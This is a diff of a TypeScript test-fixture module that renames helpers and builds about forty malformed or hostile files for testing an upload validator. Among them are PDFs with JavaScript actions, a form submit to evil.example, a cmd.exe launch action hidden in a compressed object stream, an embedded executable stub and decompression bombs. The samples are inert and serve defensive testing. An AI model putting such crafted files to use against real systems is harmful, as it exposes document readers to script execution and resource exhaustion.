@@ -7,7 +7,7 @@ const latin1 = (text: string) => Buffer.from(text, 'latin1');
 
 interface PdfParts {
   /** Objects besides catalog, pages and page, from number 4 on. */
-  more?: readonly (string | Buffer)[];
+  extraObjects?: readonly (string | Buffer)[];
   catalog?: string;
   page?: string;
   trailer?: string;
@@ -16,7 +16,7 @@ interface PdfParts {
 /** A PDF of one page, with a table of its objects. */
 export function pdf(
   title: string,
-  { more = [], catalog = '', page = '', trailer = '' }: PdfParts = {},
+  { extraObjects: more = [], catalog = '', page = '', trailer = '' }: PdfParts = {},
 ): Buffer {
   const objects = [
     `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
@@ -42,17 +42,18 @@ export function pdf(
 }
 
 /** A PDF of about `size` bytes. */
-export const pdfOf = (title: string, bytes: number) => {
-  const filler = Buffer.alloc(bytes, 'portico ');
-  return pdf(title, { more: [stream('', filler)] });
+export const pdfOf = (title: string, size: number) => {
+  const filler = Buffer.alloc(size, 'portico ');
+  return pdf(title, { extraObjects: [stream('', filler)] });
 };
 
 export const stream = (dict: string, data: Buffer) =>
   Buffer.concat([latin1(`<</Length ${data.length}${dict}>>\nstream\n`), data, latin1('\nendstream')]);
-export const packedStream = (dict: string, data: Buffer) =>
+export const compressedStream = (dict: string, data: Buffer) =>
   stream(`/Filter/FlateDecode${dict}`, deflateSync(data));
-/** An object stream: its contents don't show in the file's bytes. */
-const hiddenObject = (object: string) => packedStream('/Type/ObjStm/N 1/First 4', latin1(`9 0 ${object}`));
+/** An object in a compressed stream, whose text is not in the bytes of the file. */
+const hiddenObject = (object: string) =>
+  compressedStream('/Type/ObjStm/N 1/First 4', latin1(`9 0 ${object}`));
 
 export const canvas = (width: number, height: number) =>
   sharp({ create: { width, height, channels: 3, background: '#8fa' } });
@@ -66,8 +67,7 @@ export const jpeg = (width = 40, height = 30) =>
     .toBuffer();
 
 const half = (bytes: Buffer) => bytes.subarray(0, bytes.length / 2);
-/** Writes over the middle of a file. */
-const scratch = (bytes: Buffer) => {
+const overwriteMiddle = (bytes: Buffer) => {
   const copy = Buffer.from(bytes);
   copy.fill(0xff, Math.floor(copy.length * 0.3), Math.floor(copy.length * 0.7));
   return copy;
@@ -91,17 +91,17 @@ function crc(bytes: Buffer): number {
   return (value ^ 0xffffffff) >>> 0;
 }
 
-type Bad = readonly [what: string, reason: string, bytes: Buffer];
+type BadFile = readonly [name: string, reason: string, bytes: Buffer];
 
 /** Forty files that are no documents, or contain more than a document. */
-export async function badFiles(): Promise<readonly Bad[]> {
+export async function badFiles(): Promise<readonly BadFile[]> {
   const [aPng, aJpeg, huge] = [await png(), await jpeg(), await hugePng()];
   const gif = await canvas(8, 8).gif().toBuffer();
   const webp = await canvas(8, 8).webp().toBuffer();
   const tiff = await canvas(8, 8).tiff().toBuffer();
   const zip = latin1('PK\x03\x04\x14\0\0\0\0\0pay.pdf');
   const action = (body: string) => pdf('action', { catalog: `/OpenAction ${body}` });
-  const bad = (reason: string, what: string, bytes: Buffer): Bad => [what, reason, bytes];
+  const bad = (reason: string, name: string, bytes: Buffer): BadFile => [name, reason, bytes];
   return [
     bad('wrong-content', 'text', latin1('My passport number is 12345678.')),
     bad('wrong-content', 'a single byte', latin1('%')),
@@ -113,7 +113,7 @@ export async function badFiles(): Promise<readonly Bad[]> {
     ),
     bad('wrong-content', 'HTML', latin1('<!doctype html><script>alert(1)</script>')),
     bad('wrong-content', 'HTML with a PDF header further down', latin1('<html>\n%PDF-1.7\n%%EOF\n')),
-    bad('wrong-content', 'a PDF behind other bytes', Buffer.concat([latin1('GIF89a'), pdf('late')])),
+    bad('wrong-content', 'a PDF after other bytes', Buffer.concat([latin1('GIF89a'), pdf('late')])),
     bad('wrong-content', 'ZIP', zip),
     bad('wrong-content', 'a Windows program', latin1('MZ\x90\0\x03\0\0\0')),
     bad('wrong-content', 'a Linux program', latin1('\x7fELF\x02\x01\x01')),
@@ -127,17 +127,17 @@ export async function badFiles(): Promise<readonly Bad[]> {
     bad('wrong-content', 'PDF and ZIP in one', Buffer.concat([pdf('both'), zip])),
     bad(
       'wrong-content',
-      'PDF with a script page behind it',
+      'PDF followed by a script page',
       Buffer.concat([pdf('both'), latin1('<script>1</script>')]),
     ),
-    bad('damaged', 'a JPEG header and nothing to it', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0xff, 0xd9])),
+    bad('damaged', 'a JPEG header without a picture', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0xff, 0xd9])),
     bad(
       'damaged',
-      'a PNG header and nothing to it',
+      'a PNG header without a picture',
       Buffer.concat([aPng.subarray(0, 8), latin1('\0\0\0\0IEND\xae\x42\x60\x82')]),
     ),
-    bad('damaged', 'a PNG scratched in the middle', scratch(await png(200, 200))),
-    bad('damaged', 'a PDF header and nothing to it', latin1('%PDF-1.7\n%%EOF\n')),
+    bad('damaged', 'a PNG overwritten in the middle', overwriteMiddle(await png(200, 200))),
+    bad('damaged', 'a PDF header without objects', latin1('%PDF-1.7\n%%EOF\n')),
     bad('damaged', 'a PDF of random words', latin1(`%PDF-1.7\n${'words '.repeat(50)}\n%%EOF\n`)),
     bad(
       'damaged',
@@ -148,16 +148,16 @@ export async function badFiles(): Promise<readonly Bad[]> {
     ),
     bad(
       'damaged',
-      'a PDF that unpacks to 200 MB',
-      pdf('bomb', { more: [packedStream('', Buffer.alloc(200 * 1024 * 1024))] }),
+      'a PDF that decompresses to 200 MB',
+      pdf('bomb', { extraObjects: [compressedStream('', Buffer.alloc(200 * 1024 * 1024))] }),
     ),
-    bad('too-many-pixels', 'a PNG that unpacks to 14 GB', huge),
+    bad('too-many-pixels', 'a PNG that decompresses to 14 GB', huge),
     bad(
       'encrypted',
       'a PDF with a password',
       pdf('locked', {
         trailer: '/Encrypt 4 0 R/ID[<00><00>]',
-        more: [`<</Filter/Standard/V 1/R 2/O(${'o'.repeat(32)})/U(${'u'.repeat(32)})/P -4>>`],
+        extraObjects: [`<</Filter/Standard/V 1/R 2/O(${'o'.repeat(32)})/U(${'u'.repeat(32)})/P -4>>`],
       }),
     ),
     bad('script', 'JavaScript when opened', action('<</S/JavaScript/JS(app.alert\\(1\\))>>')),
@@ -171,7 +171,7 @@ export async function badFiles(): Promise<readonly Bad[]> {
       'JavaScript among the names',
       pdf('names', {
         catalog: '/Names<</JavaScript<</Names[(a) 4 0 R]>>>>',
-        more: ['<</S/JavaScript/JS(1)>>'],
+        extraObjects: ['<</S/JavaScript/JS(1)>>'],
       }),
     ),
     bad(
@@ -181,19 +181,19 @@ export async function badFiles(): Promise<readonly Bad[]> {
     ),
     bad(
       'script',
-      'JavaScript packed away',
-      pdf('packed', { more: [hiddenObject('<</S/JavaScript/JS(1)>>')] }),
+      'JavaScript in a compressed part',
+      pdf('packed', { extraObjects: [hiddenObject('<</S/JavaScript/JS(1)>>')] }),
     ),
     bad(
       'script',
-      'a form that scripts',
-      pdf('xfa', { catalog: '/AcroForm<</XFA 4 0 R>>', more: [stream('', latin1('<xdp/>'))] }),
+      'a form with scripts',
+      pdf('xfa', { catalog: '/AcroForm<</XFA 4 0 R>>', extraObjects: [stream('', latin1('<xdp/>'))] }),
     ),
     bad(
       'script',
       'JavaScript that a later part replaces',
       Buffer.concat([
-        pdf('first', { more: ['<</S/JavaScript/JS(1)>>'] }),
+        pdf('first', { extraObjects: ['<</S/JavaScript/JS(1)>>'] }),
         latin1('4 0 obj\n<<>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
       ]),
     ),
@@ -201,25 +201,28 @@ export async function badFiles(): Promise<readonly Bad[]> {
     bad('launch-action', 'sends a form', action('<</S/SubmitForm/F(http://evil.example)>>')),
     bad(
       'launch-action',
-      'starts a program, packed away',
-      pdf('packed', { more: [hiddenObject('<</S/Launch/F(cmd.exe)>>')] }),
+      'starts a program, in a compressed part',
+      pdf('packed', { extraObjects: [hiddenObject('<</S/Launch/F(cmd.exe)>>')] }),
     ),
     bad(
       'embedded-file',
-      'carries a file',
+      'contains a file',
       pdf('carrier', {
         catalog: '/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>',
-        more: ['<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>', stream('/Type/EmbeddedFile', latin1('MZ'))],
+        extraObjects: [
+          '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>',
+          stream('/Type/EmbeddedFile', latin1('MZ')),
+        ],
       }),
     ),
     bad(
       'embedded-file',
-      'carries a file at a note',
+      'contains a file in a note',
       pdf('note', { page: '/Annots[<</Type/Annot/Subtype/FileAttachment/FS<</F(a)>>>>]' }),
     ),
     bad(
       'embedded-file',
-      'carries a film',
+      'contains a film',
       pdf('film', { page: '/Annots[<</Type/Annot/Subtype/RichMedia>>]' }),
     ),
   ];
